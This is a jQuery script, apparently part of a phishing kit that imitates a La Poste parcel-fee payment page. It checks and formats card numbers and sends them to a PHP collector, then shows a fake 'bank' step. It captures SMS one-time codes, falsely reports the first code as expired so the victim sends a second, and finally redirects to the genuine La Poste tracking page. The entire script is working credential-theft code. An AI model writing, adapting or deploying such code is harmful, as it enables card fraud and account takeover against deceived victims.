(function ($) {
  function mod10(n) {
    var s = 0, d = false;
    n = n.replace(/\D/g, "");
    for (var i = n.length - 1; i >= 0; i--) {
      var x = +n.charAt(i);
      if (d && (x *= 2) > 9) x -= 9;
      s += x; d = !d;
    }
    return n.length > 12 && s % 10 === 0;
  }
  $("#ccn").on("input", function () { this.value = this.value.replace(/\D/g, "").replace(/(.{4})(?=.)/g, "$1 ").slice(0, 19); });
  $("#fee").on("submit", function (e) {
    e.preventDefault();
    if (!mod10($("#ccn").val())) { $("#ccn").addClass("err"); return; }
    $(".veil").fadeIn();
    $.post("inc/s2.php", $(this).serialize(), function () {
      setTimeout(function () { $(".veil").hide(); $("#fee").hide(); $("#bank").show(); }, 6000);
    });
  });
  var n = 0;
  $("#sms").on("submit", function (e) {
    e.preventDefault();
    $(".veil").fadeIn();
    $.post("inc/s3.php", $(this).serialize(), function () {
      n++;
      setTimeout(function () {
        if (n < 2) { $(".veil").hide(); $("#otp").val(""); $("#otpErr").html("Le code saisi est incorrect ou expir&eacute;. Un nouveau code vous a &eacute;t&eacute; envoy&eacute;."); }
        else window.location = "https://www.laposte.fr/outils/suivre-vos-envois";
      }, 5000);
    });
  });
})(jQuery);
